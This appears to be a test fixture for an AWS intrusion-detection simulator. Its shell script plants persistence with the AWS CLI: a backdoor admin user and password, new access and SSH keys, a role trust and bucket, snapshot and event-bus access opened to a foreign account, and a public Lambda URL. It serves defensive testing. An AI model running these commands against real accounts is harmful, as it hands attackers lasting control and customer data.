import { writeFileSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { RunningSim } from '../../sim/index.js';
import { runShell, type Creds } from '../../sim/test-support/aws.js';

/** The attacker's own account, as the scenarios name it. */
export const FOREIGN_ACCOUNT = '444455556666';

/** A group the account has before the intrusion (the caller makes it): the attacker adds a user to it. */
export const EXISTING_GROUP = 'ops-admins';

/** What the CLI intrusion planted: the kind and name scope must report, per technique. */
export interface Planted {
  kind: string;
  name: string;
  region: string;
}

const ADMIN_DOC = JSON.stringify({
  Version: '2012-10-17',
  Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }],
});
const SSH_KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl maint@kali';

/**
 * A persistence intrusion scripted with the official AWS CLI (`/usr/bin/aws`), as an attacker
 * holding `creds` would run it against an account laid out by the scenarios (`src/sim/scenarios`):
 * a new admin user with a password, a key for the existing admin, an admin version of
 * app-deploy-policy, deploy-role's trust opened to a foreign account, an OIDC provider, a key
 * pair, the backup snapshot and the customer bucket shared with that account, a public URL and
 * permission on the existing function, an inline admin policy on svc-reporting, svc-reporting in
 * the existing group EXISTING_GROUP, the eu-west-1 event bus opened to that account, an SSH key for
 * ops-admin. Returns what was planted, with the ids AWS gave.
 */
export async function plantWithCli(sim: RunningSim, creds: Creds): Promise<Planted[]> {
  const dir = mkdtempSync(join(tmpdir(), 'tq-plant-'));
  writeFileSync(join(dir, 'key.pub'), SSH_KEY + '\n');
  const trust = JSON.stringify({
    Version: '2012-10-17',
    Statement: [
      { Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::111122223333:root' }, Action: 'sts:AssumeRole' },
      {
        Effect: 'Allow',
        Principal: { AWS: `arn:aws:iam::${FOREIGN_ACCOUNT}:root` },
        Action: 'sts:AssumeRole',
      },
    ],
  });
  const bucketPolicy = JSON.stringify({
    Version: '2012-10-17',
    Statement: [
      {
        Sid: 'replica',
        Effect: 'Allow',
        Principal: { AWS: `arn:aws:iam::${FOREIGN_ACCOUNT}:root` },
        Action: ['s3:GetObject', 's3:ListBucket'],
        Resource: ['arn:aws:s3:::acme-customer-data', 'arn:aws:s3:::acme-customer-data/*'],
      },
    ],
  });
  const script = `set -e
cd '${dir}'
$AWS iam create-user --user-name backup-admin >/dev/null
$AWS iam attach-user-policy --user-name backup-admin --policy-arn arn:aws:iam::aws:policy/AdministratorAccess
$AWS iam create-login-profile --user-name backup-admin --password 'Winter-2026-Backup!' --no-password-reset-required >/dev/null
echo "KEY=$($AWS iam create-access-key --user-name ops-admin --query AccessKey.AccessKeyId --output text)"
$AWS iam create-policy-version --policy-arn arn:aws:iam::111122223333:policy/app-deploy-policy --policy-document '${ADMIN_DOC}' --set-as-default >/dev/null
$AWS iam update-assume-role-policy --role-name deploy-role --policy-document '${trust}'
$AWS iam create-open-id-connect-provider --url https://token.build-runner.example --client-id-list sts.amazonaws.com --thumbprint-list 9e99a48a9960b14926bb7f3b02e22da2b0ab7280 >/dev/null
$AWS ec2 import-key-pair --region eu-west-1 --key-name maint --public-key-material fileb://key.pub >/dev/null
SNAP=$($AWS ec2 describe-snapshots --owner-ids self --query 'Snapshots[0].SnapshotId' --output text)
echo "SNAP=$SNAP"
$AWS ec2 modify-snapshot-attribute --snapshot-id "$SNAP" --attribute createVolumePermission --operation-type add --user-ids ${FOREIGN_ACCOUNT}
$AWS s3api put-bucket-policy --bucket acme-customer-data --policy '${bucketPolicy}'
$AWS lambda create-function-url-config --function-name acme-api --auth-type NONE >/dev/null
$AWS lambda add-permission --function-name acme-api --statement-id public-url --action lambda:InvokeFunctionUrl --principal '*' --function-url-auth-type NONE >/dev/null
$AWS iam put-user-policy --user-name svc-reporting --policy-name maint --policy-document '${ADMIN_DOC}'
$AWS iam add-user-to-group --user-name svc-reporting --group-name ${EXISTING_GROUP}
$AWS events put-permission --region eu-west-1 --statement-id sync --principal ${FOREIGN_ACCOUNT} --action events:PutEvents
echo "SSH=$($AWS iam upload-ssh-public-key --user-name ops-admin --ssh-public-key-body file://key.pub --query SSHPublicKey.SSHPublicKeyId --output text)"
`;
  const run = await runShell(sim, creds, script);
  if (run.code !== 0) throw new Error(`planting failed (${run.code}): ${run.stderr}`);
  const value = (name: string): string => {
    const m = new RegExp(`^${name}=(\\S+)$`, 'm').exec(run.stdout);
    if (!m) throw new Error(`planting printed no ${name}: ${run.stdout}`);
    return m[1]!;
  };
  return [
    { kind: 'iam-user', name: 'backup-admin', region: 'global' },
    { kind: 'login-profile', name: 'backup-admin', region: 'global' },
    { kind: 'policy-attachment', name: 'backup-admin/AdministratorAccess', region: 'global' },
    { kind: 'access-key', name: value('KEY'), region: 'global' },
    { kind: 'policy-version', name: 'app-deploy-policy', region: 'global' },
    { kind: 'role-trust', name: 'deploy-role', region: 'global' },
    { kind: 'oidc-provider', name: 'token.build-runner.example', region: 'global' },
    { kind: 'key-pair', name: 'maint', region: 'eu-west-1' },
    { kind: 'snapshot-share', name: value('SNAP'), region: 'us-east-1' },
    { kind: 'bucket-policy', name: 'acme-customer-data', region: 'us-east-1' },
    { kind: 'lambda-url', name: 'acme-api', region: 'us-east-1' },
    { kind: 'lambda-permission', name: 'acme-api', region: 'us-east-1' },
    { kind: 'inline-policy', name: 'svc-reporting/maint', region: 'global' },
    { kind: 'ssh-key', name: value('SSH'), region: 'global' },
    { kind: 'group-membership', name: `svc-reporting/${EXISTING_GROUP}`, region: 'global' },
    { kind: 'event-bus-policy', name: 'default', region: 'eu-west-1' },
  ];
}
